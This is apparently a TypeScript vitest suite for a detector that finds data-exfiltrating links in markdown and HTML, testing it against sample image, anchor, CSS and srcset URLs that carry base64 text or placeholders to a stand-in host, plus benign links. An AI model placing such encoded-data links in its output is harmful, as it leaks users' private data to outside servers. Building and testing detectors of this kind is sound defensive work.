import { describe, expect, it } from "vitest";
import { findExfiltratingLinks } from "./exfiltrating-links.ts";
import { ScanBudget } from "./scan-budget.ts";

const sentence = Buffer.from("The plans of the firm are here").toString("base64url");
const digest = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b";

function find(text: string): readonly string[] {
  return findExfiltratingLinks(text, new ScanBudget(1_000)).map(({ start, end }) =>
    text.slice(start, end),
  );
}

describe("a sentence in base64", () => {
  it.each([
    `![a](https://x.example/${sentence}.png)`,
    `![a][r]\n\n[r]: https://x.example/?d=${sentence}`,
    `![a](http://192.0.2.4/x.gif?${sentence})`,
    `<a href="https://x.example/?d=${sentence}">more</a>`,
    `[more](https://x.example/?d=${sentence})`,
    `<style>body { background: url("https://x.example/?d=${sentence}") }</style>`,
    `<img src="https://x.example/a.png" srcset="https://x.example/?d=${sentence}">`,
    `<a\n  title="x"\n  href = https://x.example/?d=${sentence}>more</a>`,
    `see\n  [r]: //x.example/?d=${sentence}\n`,
  ])("is found in %s", (text) => {
    expect(find(text)).toHaveLength(1);
  });

  it("is found in a picture that is a link, whose own address is read as well", () => {
    const data = "names+and+numbers+of+all+customers";
    expect(find(`[![a](https://x.example/?d=${data})](https://x.example/?d=${sentence})`)).toEqual([
      `https://x.example/?d=${data}`,
    ]);
  });

  it.each([
    "![a](https://x.example/?q={data})",
    "![a](https://x.example/?q=%7Bdata%7D)",
    "![a](//x.example/SECRET_DATA)",
    "[a](https://x.example/?q=YOUR-name)",
  ])("a place to fill is found in %s", (text) => {
    expect(find(text)).toHaveLength(1);
  });

  it.each([
    `![a](https://x.example/${digest}.png)`,
    `<a href="https://x.example/commit/${digest}">commit</a>`,
    "[docs](https://x.example/a-guide-to-servers-and-their-settings-for-beginners)",
    `[open](https://x.example/?token=${sentence})`,
    "![chart](https://quickchart.io/chart?c={type:'bar',data:{labels:[1,2],values:[30,40]}})",
    "body { background: url(https://x.example/images/background-of-the-page.png) }",
  ])("is not in %s", (text) => {
    expect(find(text)).toEqual([]);
  });
});
